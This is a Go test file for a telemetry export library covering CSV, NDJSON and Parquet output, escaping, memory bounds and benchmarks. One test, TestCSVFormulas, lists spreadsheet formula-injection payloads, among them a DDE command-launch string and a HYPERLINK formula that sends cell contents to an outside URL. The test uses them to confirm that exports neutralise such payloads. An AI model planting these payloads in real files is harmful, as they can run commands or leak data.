package exportfile_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"io"
	"math"
	"runtime"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/parquet-go/parquet-go"

	"github.com/insighthub/insighthub/lib/exportfile"
	"github.com/insighthub/insighthub/lib/readings"
	"github.com/insighthub/insighthub/lib/telemetry"
)

func block(device, metric, unit string, values ...float64) *readings.Block {
	b := &readings.Block{Device: telemetry.DeviceName(device), Metric: telemetry.MetricName(metric), Unit: unit}
	for i, v := range values {
		b.Times = append(b.Times, 1795435200_000_000+telemetry.Micros(i*250_001))
		b.Values = append(b.Values, v)
		b.Quality = append(b.Quality, telemetry.Quality(i%3))
	}
	return b
}

func file(tb testing.TB, format exportfile.Format, blocks ...*readings.Block) []byte {
	tb.Helper()
	var out bytes.Buffer
	w, err := exportfile.New(&out, format)
	if err != nil {
		tb.Fatal(err)
	}
	for _, b := range blocks {
		if err := w.Write(b); err != nil {
			tb.Fatal(err)
		}
	}
	if err := w.Close(); err != nil {
		tb.Fatal(err)
	}
	return out.Bytes()
}

func TestCSV(t *testing.T) {
	const want = "device,metric,unit,time,value,quality\r\n" +
		"press,\"t,\"\"1\"\"\",Cel,2026-11-23T12:00:00Z,0.1,good\r\n" +
		"press,\"t,\"\"1\"\"\",Cel,2026-11-23T12:00:00.250001Z,-1e+300,uncertain\r\n"
	if diff := cmp.Diff(want, string(file(t, exportfile.CSV, block("press", `t,"1"`, "Cel", 0.1, -1e300)))); diff != "" {
		t.Errorf("file differs (-want +got):\n%s", diff)
	}
}

// TestCSVFormulas checks that no name is read as a formula by a spreadsheet, or as more
// than one field.
func TestCSVFormulas(t *testing.T) {
	for _, name := range []string{
		"=1+1", "+1", "-1", "@SUM(A1)", ` =cmd|' /C calc'!A0`, `"=1+1"`, `'=1`, "＝1", "\u00a0=1", `x","=1`,
		`=HYPERLINK("http://x?"&A1,"y")`, `"`, `""`, ",",
	} {
		rows, err := csv.NewReader(bytes.NewReader(file(t, exportfile.CSV, block(name, name, name, 1)))).ReadAll()
		if err != nil || len(rows) != 2 || len(rows[1]) != 6 {
			t.Fatalf("%q: %q, %v", name, rows, err)
		}
		for _, field := range rows[1][:3] {
			if strings.TrimPrefix(field, "'") != name && field != name {
				t.Errorf("name %q: got field %q", name, field)
			}
			if first := strings.TrimLeft(field, " \u00a0\""); first != "" && strings.ContainsRune("=+-@＝", []rune(first)[0]) {
				t.Errorf("name %q: got the formula %q", name, field)
			}
		}
	}
}

func TestNDJSON(t *testing.T) {
	raw := file(t, exportfile.NDJSON, block("pr\"ess\u2028", "ü", "Cel", 1.5, math.MaxFloat64), block("b", "m", "", 5e-324))
	var got []map[string]any
	for scanner := bufio.NewScanner(bytes.NewReader(raw)); scanner.Scan(); {
		var row map[string]any
		if err := json.Unmarshal(scanner.Bytes(), &row); err != nil {
			t.Fatalf("%s: %v", scanner.Bytes(), err)
		}
		got = append(got, row)
	}
	want := []map[string]any{
		{"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00Z", "value": 1.5, "quality": "good"},
		{
			"device": "pr\"ess\u2028", "metric": "ü", "unit": "Cel", "time": "2026-11-23T12:00:00.250001Z", "value": math.MaxFloat64,
			"quality": "uncertain",
		},
		{"device": "b", "metric": "m", "unit": "", "time": "2026-11-23T12:00:00Z", "value": 5e-324, "quality": "good"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("lines differ (-want +got):\n%s", diff)
	}
}

func TestParquet(t *testing.T) {
	raw := file(t, exportfile.Parquet, block("press", "t", "Cel", 0.1, math.MaxFloat64, -5e-324), block("b", "m", "", 2))
	type row struct {
		Device  string    `parquet:"device"`
		Metric  string    `parquet:"metric"`
		Unit    string    `parquet:"unit"`
		Time    time.Time `parquet:"time,timestamp(microsecond)"`
		Value   float64   `parquet:"value"`
		Quality string    `parquet:"quality"`
	}
	got, err := parquet.Read[row](bytes.NewReader(raw), int64(len(raw)))
	if err != nil {
		t.Fatal(err)
	}
	at := func(i int64) time.Time { return time.UnixMicro(1795435200_000_000 + i*250_001).UTC() }
	want := []row{
		{"press", "t", "Cel", at(0), 0.1, "good"},
		{"press", "t", "Cel", at(1), math.MaxFloat64, "uncertain"},
		{"press", "t", "Cel", at(2), -5e-324, "bad"},
		{"b", "m", "", at(0), 2, "good"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("rows differ (-want +got):\n%s", diff)
	}
}

func TestUnknownFormat(t *testing.T) {
	if _, err := exportfile.New(io.Discard, "xls"); !errors.Is(err, telemetry.ErrInvalid) {
		t.Errorf("got %v, want telemetry.ErrInvalid", err)
	}
}

// TestMemoryIsBounded checks the heap while it writes a million rows of each format.
func TestMemoryIsBounded(t *testing.T) {
	for _, format := range []exportfile.Format{exportfile.CSV, exportfile.NDJSON, exportfile.Parquet} {
		t.Run(string(format), func(t *testing.T) {
			heap := func() int64 {
				var m runtime.MemStats
				runtime.GC()
				runtime.ReadMemStats(&m)
				return int64(m.HeapAlloc)
			}
			b := block("press-1", "temperature", "Cel", make([]float64, 10_000)...)
			for i := range b.Values {
				b.Values[i] = math.Sin(float64(i))
			}
			before, peak := heap(), int64(0)
			w, err := exportfile.New(io.Discard, format)
			if err != nil {
				t.Fatal(err)
			}
			for i := range 100 {
				for j := range b.Times {
					b.Times[j] += 10_000 * 250_001
				}
				if err := w.Write(b); err != nil {
					t.Fatal(err)
				}
				if i%5 == 0 {
					peak = max(peak, heap()-before)
				}
			}
			if err := w.Close(); err != nil {
				t.Fatal(err)
			}
			t.Logf("%s: at most %.1f MiB in use at any time of 1,000,000 rows", format, float64(peak)/(1<<20))
			if peak > 32<<20 {
				t.Errorf("got %d bytes of heap, want at most 32 MiB", peak)
			}
		})
	}
}

func BenchmarkWrite(b *testing.B) {
	for _, format := range []exportfile.Format{exportfile.CSV, exportfile.NDJSON, exportfile.Parquet} {
		b.Run(string(format), func(b *testing.B) {
			readings := block("press-1", "temperature", "Cel", make([]float64, 10_000)...)
			for i := range readings.Values {
				readings.Values[i] = math.Sin(float64(i))
			}
			w, err := exportfile.New(io.Discard, format)
			if err != nil {
				b.Fatal(err)
			}
			b.ReportAllocs()
			for b.Loop() {
				if err := w.Write(readings); err != nil {
					b.Fatal(err)
				}
			}
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/10_000, "ns/row")
		})
	}
}
